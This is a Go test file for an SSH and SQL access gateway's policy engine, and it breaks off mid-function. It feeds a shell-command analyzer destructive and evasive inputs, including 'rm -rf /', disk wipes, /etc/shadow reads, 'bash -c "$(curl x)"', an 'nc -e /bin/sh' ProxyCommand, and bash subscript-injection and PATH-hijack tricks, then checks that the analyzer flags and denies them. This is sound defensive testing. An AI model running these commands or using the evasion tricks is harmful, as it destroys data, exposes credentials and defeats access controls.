package policy_test

import (
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/gatehouse/gatehouse/policy"
	"github.com/gatehouse/gatehouse/schemas"
	"github.com/gatehouse/gatehouse/services/config"
)

func TestAnalyzeShell(t *testing.T) {
	for _, tc := range []struct {
		cmd      string
		programs []string
		written  []string // nil: not checked
		read     []string // nil: not checked
		subst    bool
		pipes    bool
		bg       bool
		dynamic  bool
	}{
		// Lists, pipes, compound commands.
		{cmd: "ls; rm -rf /", programs: []string{"ls", "rm"}},
		{cmd: "ls && rm x || reboot", programs: []string{"ls", "rm", "reboot"}},
		{cmd: "ls | sh", programs: []string{"ls", "sh"}, pipes: true, dynamic: true},
		{cmd: "(cd /tmp; rm x)", programs: []string{"cd", "rm"}},
		{cmd: "{ ls; rm x; }", programs: []string{"ls", "rm"}},
		{cmd: "if test -f x; then rm x; else touch y; fi", programs: []string{"test", "rm", "touch"}, written: []string{"y"}},
		{cmd: "while true; do rm x; done", programs: []string{"true", "rm"}},
		{cmd: "for f in a b; do shred $f; done", programs: []string{"shred"}},
		{cmd: "case $x in a) rm x;; *) ls;; esac", programs: []string{"rm", "ls"}},
		{cmd: "f() { rm x; }; f", programs: []string{"rm", "f"}},
		{cmd: "sleep 1 &", programs: []string{"sleep"}, bg: true},
		{cmd: "X=1", programs: []string{}},
		{cmd: "X=$(rm x)", programs: []string{"rm"}, subst: true},
		{cmd: "export A=1", programs: []string{"export"}},
		// Substitutions: their commands run.
		{cmd: "ls $(rm x)", programs: []string{"ls", "rm"}, subst: true},
		{cmd: "ls `rm x`", programs: []string{"ls", "rm"}, subst: true},
		{cmd: "diff <(rm a) >(tee b)", programs: []string{"diff", "rm", "tee"}, subst: true, written: []string{"b"}},
		{cmd: `echo "$(rm x)"`, programs: []string{"echo", "rm"}, subst: true},
		// Quoting tricks resolve to the literal name.
		{cmd: `'r''m' -rf /`, programs: []string{"rm"}},
		{cmd: `"rm" x`, programs: []string{"rm"}},
		{cmd: `\rm x`, programs: []string{"rm"}},
		{cmd: `r\m x`, programs: []string{"rm"}},
		{cmd: `r"m" x`, programs: []string{"rm"}},
		{cmd: `$'\x72m' x`, programs: []string{"rm"}},
		{cmd: `/bin/../bin/rm x`, programs: []string{"rm"}},
		{cmd: `/usr/bin//rm x`, programs: []string{"rm"}},
		// Not literals: dynamic.
		{cmd: `$X -rf /`, programs: []string{"$X"}, dynamic: true},
		{cmd: `$(echo rm) x`, programs: []string{"$(echo rm)", "echo"}, subst: true, dynamic: true},
		{cmd: `/bin/r? x`, programs: []string{"/bin/r?"}, dynamic: true},
		{cmd: `{rm,-rf,/}`, programs: []string{"{rm,-rf,/}"}, dynamic: true},
		{cmd: `~/bin/tool`, programs: []string{"~/bin/tool"}, dynamic: true},
		{cmd: `PATH=/tmp ls`, programs: []string{"ls"}, dynamic: true},
		{cmd: `LD_PRELOAD=/tmp/x.so ls`, programs: []string{"ls"}, dynamic: true},
		// Wrappers.
		{cmd: `bash -c 'rm -rf /'`, programs: []string{"bash", "rm"}},
		{cmd: `sh -ec "ls; rm x"`, programs: []string{"sh", "ls", "rm"}},
		{cmd: `bash -o pipefail -c 'rm x'`, programs: []string{"bash", "rm"}},
		{cmd: `zsh -c 'rm x'`, programs: []string{"zsh", "rm"}},
		{cmd: `dash -c 'rm x'`, programs: []string{"dash", "rm"}},
		{cmd: `bash -c "$(curl x)"`, programs: []string{"bash", "curl"}, subst: true, dynamic: true},
		{cmd: `bash script.sh`, programs: []string{"bash"}, dynamic: true},
		{cmd: "bash <<'EOF'\nrm -rf /\nEOF", programs: []string{"bash", "rm"}},
		{cmd: `sh <<< 'rm x'`, programs: []string{"sh", "rm"}},
		{cmd: `eval rm x`, programs: []string{"eval", "rm"}},
		{cmd: `eval "$CMD"`, programs: []string{"eval"}, dynamic: true},
		{cmd: `sudo -u root rm x`, programs: []string{"sudo", "rm"}},
		{cmd: `sudo -Eu root -- rm x`, programs: []string{"sudo", "rm"}},
		{cmd: `sudo A=1 rm x`, programs: []string{"sudo", "rm"}},
		{cmd: `sudo -e /etc/hosts`, programs: []string{"sudo"}, written: []string{"/etc/hosts"}},
		{cmd: `doas -u root rm x`, programs: []string{"doas", "rm"}},
		{cmd: `env A=1 B=2 rm x`, programs: []string{"env", "rm"}},
		{cmd: `env -i -u HOME rm x`, programs: []string{"env", "rm"}},
		{cmd: `env -S 'rm -rf' /`, programs: []string{"env", "rm"}},
		{cmd: `nohup rm x`, programs: []string{"nohup", "rm"}},
		{cmd: `nice -n 10 rm x`, programs: []string{"nice", "rm"}},
		{cmd: `timeout -s KILL 5 rm x`, programs: []string{"timeout", "rm"}},
		{cmd: `time rm x`, programs: []string{"rm"}},
		{cmd: `command time -o /tmp/t rm x`, programs: []string{"command", "time", "rm"}, written: []string{"/tmp/t"}},
		{cmd: `command -p rm x`, programs: []string{"command", "rm"}},
		{cmd: `exec -a foo rm x`, programs: []string{"exec", "rm"}},
		{cmd: `builtin rm x`, programs: []string{"builtin", "rm"}},
		{cmd: `xargs rm`, programs: []string{"xargs", "rm"}},
		{cmd: `xargs -n1 -P4 rm -f`, programs: []string{"xargs", "rm"}},
		{cmd: `xargs`, programs: []string{"xargs", "echo"}},
		{cmd: `xargs sh -c`, programs: []string{"xargs", "sh"}, dynamic: true},
		{cmd: `xargs -I{} sh -c '{}'`, programs: []string{"xargs", "sh"}, dynamic: true},
		{cmd: `xargs -I{} {}`, programs: []string{"xargs", "{}"}, dynamic: true},
		{cmd: `stdbuf -oL rm x`, programs: []string{"stdbuf", "rm"}},
		{cmd: `setsid -f rm x`, programs: []string{"setsid", "rm"}},
		{cmd: `ionice -c 3 rm x`, programs: []string{"ionice", "rm"}},
		{cmd: `chroot /srv/jail rm x`, programs: []string{"chroot", "rm"}},
		{cmd: `su -c 'rm x' root`, programs: []string{"su", "rm"}},
		{cmd: `su - root -c 'rm x'`, programs: []string{"su", "rm"}},
		{cmd: `su root`, programs: []string{"su"}, dynamic: true},
		{cmd: `ssh -p 22 db1 rm -rf /data`, programs: []string{"ssh", "rm"}},
		{cmd: `ssh db1 -l root 'rm x; ls'`, programs: []string{"ssh", "rm", "ls"}},
		{cmd: `ssh -o ProxyCommand='nc -e /bin/sh x 1' h ls`, programs: []string{"ssh", "nc", "ls"}},
		{cmd: `find / -name x -exec rm -f {} \;`, programs: []string{"find", "rm"}},
		{cmd: `find / -execdir sh -c 'rm "$1"' _ {} +`, programs: []string{"find", "sh", "rm"}},
		{cmd: `trap 'rm -rf /' EXIT`, programs: []string{"trap", "rm"}},
		{cmd: `busybox rm x`, programs: []string{"busybox", "rm"}},
		{cmd: `watch -n 1 'rm x'`, programs: []string{"watch", "rm"}},
		{cmd: `flock /tmp/l -c 'rm x'`, programs: []string{"flock", "rm"}},
		{cmd: `. ./env.sh`, programs: []string{"."}, read: []string{"env.sh"}, dynamic: true},
		// Wrappers in wrappers.
		{cmd: `sudo env A=1 nice -n 5 timeout 5 bash -c "eval 'xargs rm'"`, programs: []string{"sudo", "env", "nice", "timeout", "bash", "eval", "xargs", "rm"}},
		{cmd: `nohup sudo -u app sh -c 'ssh h "find / -exec shred {} +"' &`, programs: []string{"nohup", "sudo", "sh", "ssh", "find", "shred"}, bg: true},
		{cmd: `sudo $SHELL`, programs: []string{"sudo", "$SHELL"}, dynamic: true},
		// Files.
		{cmd: `echo x > /etc/../etc/passwd 2>&1 >>/var/log/a >| b &> c`, programs: []string{"echo"}, written: []string{"/etc/passwd", "/var/log/a", "b", "c"}, read: []string{}},
		{cmd: `cat < /etc/shadow`, programs: []string{"cat"}, read: []string{"/etc/shadow"}, written: []string{}},
		{cmd: `ls >&2`, programs: []string{"ls"}, written: []string{}},
		{cmd: `echo x | tee -a /etc/x /etc/y`, programs: []string{"echo", "tee"}, pipes: true, written: []string{"/etc/x", "/etc/y"}},
		{cmd: `cp -r a b /etc/`, programs: []string{"cp"}, written: []string{"/etc"}, read: []string{"a", "b"}},
		{cmd: `cp -t /etc a b`, programs: []string{"cp"}, written: []string{"/etc"}},
		{cmd: `mv /etc/a /tmp/b`, programs: []string{"mv"}, written: []string{"/tmp/b", "/etc/a"}},
		{cmd: `install -m 0755 x /usr/local/bin/x`, programs: []string{"install"}, written: []string{"/usr/local/bin/x"}},
		{cmd: `dd if=/dev/zero of=/dev/sda`, programs: []string{"dd"}, written: []string{"/dev/sda"}, read: []string{"/dev/zero"}},
		{cmd: `sed -i.bak s/a/b/ /etc/hosts`, programs: []string{"sed"}, written: []string{"/etc/hosts"}},
		{cmd: `sed -ne s/a/b/p /etc/hosts`, programs: []string{"sed"}, written: []string{}, read: []string{"/etc/hosts"}},
		{cmd: `sed -e s/a/b/ --in-place /etc/hosts`, programs: []string{"sed"}, written: []string{"/etc/hosts"}},
		{cmd: `curl -sSo /etc/x http://h/`, programs: []string{"curl"}, written: []string{"/etc/x"}},
		{cmd: `echo > "$F"`, programs: []string{"echo"}, written: []string{`"$F"`}},
	} {
		t.Run(tc.cmd, func(t *testing.T) {
			info := policy.AnalyzeShell(tc.cmd)
			require.Empty(t, info.ParseError)
			require.Equal(t, tc.programs, info.Programs)
			if tc.written != nil {
				require.Equal(t, tc.written, info.FilesWritten)
			}
			if tc.read != nil {
				require.Equal(t, tc.read, info.FilesRead)
			}
			require.Equal(t, tc.subst, info.HasSubstitution, "has_substitution")
			require.Equal(t, tc.pipes, info.Pipes, "pipes")
			require.Equal(t, tc.bg, info.Background, "background")
			require.Equal(t, tc.dynamic, info.Dynamic, "dynamic")
		})
	}
}

// TestAnalyzeShellEvaluatedValues: bash evaluates code in values, not only in the text: a
// subscript in a name a builtin assigns, a variable's value in arithmetic, an indirect name,
// a prompt string. What such a command runs is not in its text: dynamic.
func TestAnalyzeShellEvaluatedValues(t *testing.T) {
	for _, cmd := range []string{
		// Names with a subscript, given to builtins that assign or test them.
		`printf -v 'x[$(touch m)]' 1`,
		`printf -v'x[$(touch m)]' 1`,
		`builtin printf -v 'x[$(touch m)]' 1`,
		`command printf -v 'x[$(touch m)]' 1`,
		`o=-v; printf $o 'x[$(touch m)]' 1`,
		`printf "$f" 'x[$(touch m)]' 1`,
		`echo 'x[$(touch m)]' | xargs printf -v`,
		`read 'a[$(touch m)]' <<< 1`,
		`read -a 'a[$(touch m)]' <<< 1`,
		`read -ra "$n" <<< 1`,
		`read $opts x`,
		`read -e x`,
		`mapfile 'a[$(touch m)]' < f`,
		`readarray -t "$n" < f`,
		`mapfile -C 'touch m' -c 1 x < f`,
		`unset 'a[$(touch m)]'`,
		`unset "$x"`,
		`wait -p 'a[$(touch m)]'`,
		`getopts a 'a[$(touch m)]'`,
		`getopts $x`,
		`[[ -v 'x[$(touch m)]' ]]`,
		`[[ -R 'x[$(touch m)]' ]]`,
		`x='a[$(touch m)]'; [[ -v $x ]]`,
		`test -v 'x[$(touch m)]'`,
		`[ -v 'x[$(touch m)]' ]`,
		`[ ! -v 'x[$(touch m)]' ]`,
		`[ -v "$x" ]`,
		`[ "$op" "$x" ]`,
		`[ $x ]`,
		`[ -n $x ]`,
		`[ "$@" ]`,
		`[ -n "$a" -a -v "$b" ]`,
		`builtin test -v 'x[$(touch m)]'`,
		`declare 'a[$(touch m)]=1'`,
		`declare -n r='a[$(touch m)]'; echo $r`,
		`f() { local -n r=x; }; f`,
		`typeset -n r=x`,
		`declare -i i='a[$(touch m)]'`,
		`declare -a a='($(touch m))'`,
		`declare -a 'a=($(touch m))'`,
		`export -a a='($(touch m))'`,
		`a=(1); declare a='($(touch m))'`,
		`a=(1); y='($(touch m))'; declare a="$y"`,
		`declare $opts x=1`,
		`builtin declare -n r=x`,
		// Values evaluated as arithmetic: a name's value is arithmetic in turn.
		`[[ 'x[$(touch m)]' -eq 0 ]]`,
		`[[ x -lt 1 ]]`,
		`[[ $x -eq 1 ]]`,
		`x='a[$(touch m)]'; echo $((x))`,
		`x='a[$(touch m)]'; echo $((x++))`,
		`echo $(( 'a[$(touch m)]' ))`,
		`echo $(( "$x" ))`,
		`echo $(( $(echo 1) ))`,
		`printf -v x '%s' 'a[$(touch m)]'; echo $((x))`,
		`echo $[x]`,
		`((x))`,
		`let x`,
		`let 'a[$(touch m)]'`,
		`command let x`,
		`for ((i=0; i<x; i++)); do echo; done`,
		`echo ${x:y}`,
		`echo "${x:0:$n}"`,
		`echo "${@:x}"`,
		`echo "${a[i]}"`,
		`echo "${a[$(touch m)]}"`,
		`echo "${#a[i]}"`,
		`a[i]=1`,
		`a=([i]=1)`,
		`declare -A m=([k]=1)`,
		`case 1 in $((x))) ;; esac`,
		`OPTIND='a[$(touch m)]'; getopts a x`,
		`OPTIND=$x`,
		`read OPTIND`,
		// Indirection and prompt strings.
		`x='a[$(touch m)]'; echo ${!x}`,
		`echo "${!a[1]}"`,
		`x='$(touch m)'; echo "${x@P}"`,
		`a=('$(touch m)'); echo "${a[@]@P}"`,
		// Assignments to what a name runs, by a builtin.
		`printf -v PATH %s /tmp/bin; ls`,
		`command printf -v PATH %s /tmp/bin; ls`,
		`read PATH <<< /tmp/bin; ls`,
		`mapfile -t PATH <<< /tmp/bin; ls`,
		`declare 'PATH=/tmp/bin'; ls`,
		`builtin export PATH=/tmp/bin; ls`,
		`command declare PS4='$(touch m)'; set -x; ls`,
		`unset PATH; ls`,
		`: ${PATH:=/tmp/bin}; ls`,
		`getopts a PATH`,
		`BASH_CMDS[ls]=/tmp/x; ls`,
		`BASH_CMDS=([ls]=/tmp/x); ls`,
		`BASH_ALIASES[ls]='touch m'`,
		`hash -p /tmp/x ls; ls`,
		`EXECIGNORE=/usr/bin/ls; ls`,
		`LD_BIND_NOW=1 ls`,
		`set -k; ls PATH=/tmp/bin`,
		`set -o keyword; ls PATH=/tmp/bin`,
		`set -eko pipefail`,
		`set $opts`,
		`bash -k -c 'ls PATH=/tmp/bin'`,
		`bash -o keyword -c 'ls PATH=/tmp/bin'`,
		`for PATH in /tmp/bin; do ls; done`,
		`select PATH in /tmp/bin; do ls; done`,
		`exec {PATH}>/dev/null; ls`,
		`coproc PATH { sleep 1; }; ls`,
		`for OPTIND in 'a[$(touch m)]'; do :; done`,
		// Builtins that run or load code.
		`enable -f ./x.so x`,
		`compgen -W '$(touch m)' x`,
		`fc -s`,
	} {
		t.Run(cmd, func(t *testing.T) {
			info := policy.AnalyzeShell(cmd)
			require.Empty(t, info.ParseError)
			require.True(t, info.Dynamic, "dynamic (programs %v)", info.Programs)
		})
	}
	// What bash evaluates here is provably inert: integer constants, plain names.
	for _, cmd := range []string{
		`echo $((1+2))`,
		`echo $(( (0x1f * 2#101) % 7 ))`,
		`echo $(($# + $? - ${#x}))`,
		`echo $[1+1]`,
		`[[ -f /etc/x ]]`,
		`[[ $a == b* && $b != c ]]`,
		`[[ $x =~ ^a ]]`,
		`[[ -v x ]]`,
		`[[ 1 -eq 1 && $? -ne 0 ]]`,
		`[ -f "$f" ]`,
		`[ "$x" = y ]`,
		`[ "$x" ]`,
		`[ ! -z "$x" ]`,
		`[ -v x ] && [ ! -v y ]`,
		`test -n "$x" && test "$a" -lt 3`,
		`[ -f a -a -d b ]`,
		`printf '%s\n' "$x"`,
		`printf "Result: $x\n"`,
		`printf -v x %s 1`,
		`printf -- "$f"`,
		`read -r line`,
		`while read -r a b; do echo "$a"; done < f`,
		`read -p "$p" -t 5 x`,
		`mapfile -t lines < f`,
		`unset x y`,
		`unset -f f`,
		`declare -r x=1`,
		`declare -a a=(1 2)`,
		`export FOO=bar`,
		`export FOO="$BAR"`,
		`f() { local x=1 y; }; f`,
		`echo ${!p*} ${!a[@]} "${a[@]}" "${a[1]}" "${x:1:2}" ${x@Q} ${x^^}`,
		`a[1]=x; a=(1 2 3); a+=(4)`,
		`echo ${x:-default} ${y:=value}`,
		`set -euo pipefail`,
		`set -- a b`,
		`OPTIND=1`,
		`getopts ab opt`,
		`wait -n`,
		`sleep 1 & wait -p pid`,
		`hash -r`,
		`export -n FOO`,
		`for f in a b; do echo "$f"; done`,
		`exec {fd}>/dev/null`,
	} {
		t.Run(cmd, func(t *testing.T) {
			info := policy.AnalyzeShell(cmd)
			require.Empty(t, info.ParseError)
			require.False(t, info.Dynamic, "not dynamic (programs %v)", info.Programs)
		})
	}
}

func TestAnalyzeShellCommands(t *testing.T) {
	info := policy.AnalyzeShell(`"/bin/../bin/rm" -rf "$HOME" '/a b'; ls *.go`)
	require.Equal(t, []policy.ShellCommand{
		{Program: "/bin/../bin/rm", Name: "rm", Args: []string{"-rf", `"$HOME"`, "/a b"}, Dynamic: true},
		{Program: "ls", Name: "ls", Args: []string{"*.go"}, Dynamic: true},
	}, info.Commands)
	info = policy.AnalyzeShell(`sudo -u root rm x`)
	require.Equal(t, []policy.ShellCommand{
		{Program: "sudo", Name: "sudo", Args: []string{"-u", "root", "rm", "x"}},
		{Program: "rm", Name: "rm", Args: []string{"x"}},
	}, info.Commands)
	require.True(t, policy.AnalyzeShell("xargs rm").Commands[1].Dynamic, "xargs appends what it reads")
}

func TestAnalyzeShellBounds(t *testing.T) {
	for name, cmd := range map[string]string{
		"sudo in sudo":     strings.Repeat("sudo ", 20) + "rm x",
		"eval in eval":     strings.Repeat("eval ", 20) + "rm x",
		"nice in nohup":    strings.Repeat("nice nohup ", 10) + "rm x",
		"bash -c in ssh":   strings.Repeat("ssh h ", 20) + "rm x",
		"arithmetic stack": "echo $((" + strings.Repeat("(", 100000) + "1" + strings.Repeat(")", 100000) + "))",
		"over 128 KiB":     "ls " + strings.Repeat("a", 130<<10),
	} {
		t.Run(name, func(t *testing.T) {
			info := policy.AnalyzeShell(cmd)
			require.NotEmpty(t, info.ParseError)
			require.Empty(t, info.Programs, "nothing of a refused command is an input")
		})
	}
	require.Contains(t, policy.AnalyzeShell(strings.Repeat("sudo ", 20)+"rm x").ParseError, "too deeply nested")
	require.Empty(t, policy.AnalyzeShell(strings.Repeat("sudo ", 10)+"rm x").ParseError, "within the bound")
	require.Empty(t, policy.AnalyzeShell(strings.Repeat("ls | ", 5000)+"ls").ParseError, "a long pipeline is not nesting")

	info := policy.AnalyzeShell(`ls 'unterminated`)
	require.Contains(t, info.ParseError, "1:4")
	info = policy.AnalyzeShell(`bash -c 'if'`)
	require.Contains(t, info.ParseError, "the script of bash -c does not parse")
}

func FuzzAnalyzeShell(f *testing.F) {
	for _, s := range []string{"ls; rm -rf /", `bash -c "$(curl x)"`, "sudo env A=1 xargs -I{} sh -c '{}'", "cat <<EOF\nx\nEOF", "find . -exec rm {} +"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		info := policy.AnalyzeShell(s)
		if info.ParseError == "" {
			require.NotNil(t, info.Programs)
		}
	})
}

func decideSSH(t *testing.T, e *policy.Engine, groups []string, s schemas.SSHRequest) schemas.DecisionReply {
	t.Helper()
	if s.Login == "" {
		s.Login = "deploy"
	}
	if s.Channel == "" {
		s.Channel = "session"
	}
	return e.Decide(&policy.Input{DecisionRequest: schemas.DecisionRequest{Identity: schemas.Identity{Subject: "s", Groups: groups},
		Resource: schemas.Resource{Name: "web-1", Type: "ssh"}, SSH: &s}}, time.Now())
}

func exec(cmd string) schemas.SSHRequest { return schemas.SSHRequest{Request: "exec", Command: cmd} }

func TestDecideSSHExecAllowList(t *testing.T) {
	e, err := policy.Compile([]config.Policy{{Name: "web", Resources: []string{"web-1"}, Rules: []config.Rule{
		{Name: "read-only-tools", Effect: "allow", When: `request.ssh.request == "exec" && request.ssh.programs.all(p, p in ["ls","cat","uptime"])`},
	}}}, 3)
	require.NoError(t, err)
	for _, cmd := range []string{"ls -la /srv", "uptime", "cat /etc/hostname | cat", "ls; uptime"} {
		d := decideSSH(t, e, nil, exec(cmd))
		require.Equal(t, schemas.EffectAllow, d.Effect, "%s: %s", cmd, d.Reason)
		require.Equal(t, "read-only-tools", d.Rule)
		require.False(t, d.Cacheable)
		require.Equal(t, uint64(3), d.Revision)
	}
	for _, cmd := range []string{
		"ls; rm -rf /", "ls && bash -c 'rm -rf /'", "ls $(rm x)", "ls `rm x`", "ls | sh", `'r''m' -rf /`, `\rm x`,
		"sudo -u root rm x", "env A=1 rm x", "xargs rm", "ls <(rm x)", "f() { rm x; }; ls", "ls 'unterminated",
		"$X", "ls && /sbin/../sbin/reboot", "ls & rm x",
	} {
		d := decideSSH(t, e, nil, exec(cmd))
		require.Equal(t, schemas.EffectDeny, d.Effect, cmd)
		require.Empty(t, d.Rule, cmd)
		require.Contains(t, d.Reason, "no rule allows exec of ", cmd)
		require.Contains(t, d.Reason, "for deploy@web-1", cmd)
	}
	d := decideSSH(t, e, nil, exec("rm -rf /"))
	require.Equal(t, `no rule allows exec of "rm -rf /" (programs rm) for deploy@web-1`, d.Reason)
	d = decideSSH(t, e, nil, exec("ls "+strings.Repeat("x", 5000)))
	require.Less(t, len(d.Reason), 400, "bounded")
	d = decideSSH(t, e, nil, schemas.SSHRequest{Request: "shell"})
	require.Equal(t, schemas.EffectDeny, d.Effect)
	require.Equal(t, "no rule allows shell for deploy@web-1", d.Reason)

	d = decideSSH(t, e, nil, exec(strings.Repeat("sudo ", 20)+"ls"))
	require.Equal(t, schemas.EffectDeny, d.Effect)
	require.Equal(t, "command-depth", d.Rule)
	require.Contains(t, d.Reason, "too deeply nested")
}

// TestDecideSSHExecEvaluatedValues: the allow-list docs/policy.md recommends refuses what
// bash evaluates in values (the attack's commands), and still allows the plain forms.
func TestDecideSSHExecEvaluatedValues(t *testing.T) {
	e, err := policy.Compile([]config.Policy{{Name: "web", Resources: []string{"web-1"}, Rules: []config.Rule{
		{Name: "tools", Effect: "allow", When: `request.ssh.request == "exec" && !request.ssh.dynamic && ` +
			`request.ssh.programs.all(p, p in ["echo", "printf", "cat", "ls", "test", "[", "read"])`},
	}}}, 1)
	require.NoError(t, err)
	for _, cmd := range []string{
		`printf -v 'x[$(touch m)]' 1`,
		`[[ -v 'x[$(touch m)]' ]]; echo ok`,
		`[[ 'x[$(touch m)]' -eq 0 ]]; echo ok`,
		`x='a[$(touch m)]'; echo $((x))`,
		`x='a[$(touch m)]'; echo ${!x}`,
		`x='$(touch m)'; echo "${x@P}"`,
		`echo $(( 'a[$(touch m)]' ))`,
		`printf -v x '%s' 'a[$(touch m)]'; echo $((x))`,
		`printf -v PATH %s /tmp/bin; ls`,
		`[ -v 'x[$(touch m)]' ]`,
		`read PATH <<< /tmp/bin; ls`,
		`for PATH in /tmp/bin; do ls; done`,
	} {
		d := decideSSH(t, e, nil, exec(cmd))
		require.Equal(t, schemas.EffectDeny, d.Effect, cmd)
	}
	for _, cmd := range []string{`echo $((1+2))`, `[[ -f /etc/x ]] && cat /etc/x`, `printf '%s\n' "$HOME"`, `[ -n "$x" ] && echo "$x"`} {
		d := decideSSH(t, e, nil, exec(cmd))
		require.Equal(t, schemas.EffectAllow, d.Effect, "%s: %s", cmd, d.Reason)
	}
}

func TestDecideSSHParseErrorRules(t *testing.T) {
	e, err := policy.Compile([]config.Policy{{Name: "p", Resources: []string{"web-1"}, Rules: []config.Rule{
		{Name: "any-exec", Effect: "allow", When: `request.ssh.request == "exec" && "ops" in identity.groups`},
		{Name: "legacy", Effect: "allow", When: `request.ssh.parse_error != "" && "legacy" in identity.groups`},
	}}}, 1)
	require.NoError(t, err)
	require.Equal(t, schemas.EffectAllow, decideSSH(t, e, []string{"ops"}, exec("rm x")).Effect)
	d := decideSSH(t, e, []string{"ops"}, exec("rm 'x"))
	require.Equal(t, schemas.EffectDeny, d.Effect, "a rule that does not mention parse_error does not match")
	require.Contains(t, d.Reason, "does not parse")
	require.Equal(t, schemas.EffectAllow, decideSSH(t, e, []string{"legacy"}, exec("rm 'x")).Effect)
}

func TestDecideSSHFilesWritten(t *testing.T) {
	e, err := policy.Compile([]config.Policy{{Name: "p", Resources: []string{"web-1"}, Rules: []config.Rule{
		{Name: "ops", Effect: "allow", When: `"ops" in identity.groups`},
		{Name: "no-etc", Effect: "deny", When: `request.ssh.files_written.exists(f, f == "/etc" || f.startsWith("/etc/"))`, Reason: "nothing under /etc"},
	}}}, 1)
	require.NoError(t, err)
	for _, cmd := range []string{"echo x > /etc/passwd", "echo x >> /tmp/../etc/passwd", "tee /etc/hosts", "cp a /etc/", "sudo sed -i s/a/b/ /etc/hosts", "dd of=/etc/x", "bash -c 'echo >/etc/x'"} {
		d := decideSSH(t, e, []string{"ops"}, exec(cmd))
		require.Equal(t, schemas.EffectDeny, d.Effect, cmd)
		require.Equal(t, "no-etc", d.Rule, cmd)
		require.Equal(t, "nothing under /etc", d.Reason)
	}
	d := decideSSH(t, e, []string{"ops"}, exec("echo x > /tmp/etc"))
	require.Equal(t, schemas.EffectAllow, d.Effect, d.Reason)
}

func TestDecideSSHAndSQLRulesApart(t *testing.T) {
	e, err := policy.Compile([]config.Policy{
		{Name: "baseline", Resources: []string{"*"}, Rules: []config.Rule{
			{Name: "no-drop", Effect: "deny", When: `"drop_table" in request.sql.kinds`, Reason: "no drops"},
			{Name: "no-rm", Effect: "deny", When: `"rm" in request.ssh.programs`, Reason: "no rm"},
			{Name: "no-interns", Effect: "deny", When: `"interns" in identity.groups`, Reason: "interns never"},
		}},
		{Name: "all", Resources: []string{"web-1", "demo"}, Rules: []config.Rule{
			{Name: "ops", Effect: "allow", When: `"ops" in identity.groups`},
		}},
	}, 1)
	require.NoError(t, err)

	d := decideSSH(t, e, []string{"ops"}, exec("ls"))
	require.Equal(t, schemas.EffectAllow, d.Effect, "the SQL rule (which would fail on an SSH request, and deny) is not evaluated: %s", d.Reason)
	require.Equal(t, schemas.EffectAllow, decideSSH(t, e, []string{"ops"}, schemas.SSHRequest{Request: "shell"}).Effect)
	d = decideSSH(t, e, []string{"ops"}, exec("rm x"))
	require.Equal(t, "no-rm", d.Rule)
	d = decideSSH(t, e, []string{"ops", "interns"}, exec("ls"))
	require.Equal(t, "no-interns", d.Rule, "an identity-only rule applies to every protocol")

	sql := func(groups []string, text string) schemas.DecisionReply {
		return e.Decide(&policy.Input{DecisionRequest: schemas.DecisionRequest{Identity: schemas.Identity{Subject: "s", Groups: groups},
			Resource: schemas.Resource{Name: "demo", Type: "postgres"}, SQL: &schemas.SQLRequest{Text: text}}, Catalog: testCatalog}, time.Now())
	}
	d = sql([]string{"ops"}, "select * from orders")
	require.Equal(t, schemas.EffectAllow, d.Effect, "the SSH rule is not evaluated on a SQL statement: %s", d.Reason)
	require.True(t, d.Cacheable)
	require.Equal(t, "no-drop", sql([]string{"ops"}, "drop table orders").Rule)
	require.Equal(t, "no-interns", sql([]string{"ops", "interns"}, "select 1").Rule)

	// A rule that reads request in a way that cannot be seen through applies to both.
	e, err = policy.Compile([]config.Policy{{Name: "p", Resources: []string{"web-1"}, Rules: []config.Rule{
		{Name: "ops", Effect: "allow", When: `"ops" in identity.groups`},
		{Name: "opaque", Effect: "deny", When: `request[identity.sub].kinds.size() > 0`},
	}}}, 1)
	require.NoError(t, err)
	d = decideSSH(t, e, []string{"ops"}, exec("ls"))
	require.Equal(t, schemas.EffectDeny, d.Effect)
	require.Contains(t, d.Reason, "could not be evaluated")

	// Neither part: refused.
	d = e.Decide(&policy.Input{DecisionRequest: schemas.DecisionRequest{Resource: schemas.Resource{Name: "web-1"}}}, time.Now())
	require.Equal(t, schemas.EffectDeny, d.Effect)
	require.Equal(t, "protocol", d.Rule)
	require.Contains(t, d.Reason, "no sql, ssh or http part")
}

func TestDecideSSHMaskAndApproval(t *testing.T) {
	e, err := policy.Compile([]config.Policy{{Name: "p", Resources: []string{"web-1"}, Rules: []config.Rule{
		{Name: "shell", Effect: "allow", When: `request.ssh.request in ["shell", "pty-req"] || request.ssh.request == "exec" && request.ssh.programs.all(p, p in ["cat", "ls"])`},
		{Name: "cards", Effect: "mask", When: `request.ssh.request in ["shell", "exec"]`, Mask: &config.Mask{Columns: []string{"customers.card_number"}, Detectors: []string{"card", "email"}, Method: "partial"}},
		{Name: "columns-only", Effect: "mask", When: `true`, Mask: &config.Mask{Columns: []string{"customers.email"}}},
		{Name: "restarts", Effect: "require_approval", When: `request.ssh.request == "exec" && "systemctl" in request.ssh.programs`, Reason: "restarts need a second pair of eyes",
			Approval: &config.Approval{Approvers: []string{"leads"}}},
	}}}, 1)
	require.NoError(t, err)
	d := decideSSH(t, e, nil, exec("cat /var/log/app.log"))
	require.Equal(t, schemas.EffectMask, d.Effect, d.Reason)
	require.True(t, d.Allowed())
	require.Equal(t, "shell", d.Rule)
	require.Empty(t, d.Mask.Columns, "columns mean nothing on a terminal")
	require.Equal(t, []schemas.MaskDetector{{Name: "card", Method: "partial"}, {Name: "email", Method: "partial"}}, d.Mask.Detectors)
	require.Contains(t, d.Reason, "masked by p/cards")
	require.NotContains(t, d.Reason, "columns-only")

	d = decideSSH(t, e, nil, schemas.SSHRequest{Request: "pty-req", Term: "xterm"})
	require.Equal(t, schemas.EffectAllow, d.Effect, "a mask rule with columns only masks nothing here")
	require.Nil(t, d.Mask)

	d = decideSSH(t, e, nil, exec("sudo systemctl restart app"))
	require.Equal(t, schemas.EffectRequireApproval, d.Effect)
	require.Equal(t, "restarts", d.Rule)
	require.Equal(t, "restarts need a second pair of eyes", d.Reason)
	require.Equal(t, []string{"leads"}, d.Approval.Approvers)
	require.Equal(t, 1, d.Approval.Required)
}

func TestDecideSSHRequests(t *testing.T) {
	e, err := policy.Compile([]config.Policy{{Name: "p", Resources: []string{"web-1"}, Rules: []config.Rule{
		{Name: "sftp-subsystem", Effect: "allow", When: `request.ssh.request == "subsystem" && request.ssh.subsystem == "sftp"`},
		{Name: "sftp-read", Effect: "allow", When: `request.ssh.request == "sftp" && request.ssh.sftp.op in ["read", "list", "stat", "realpath"]`},
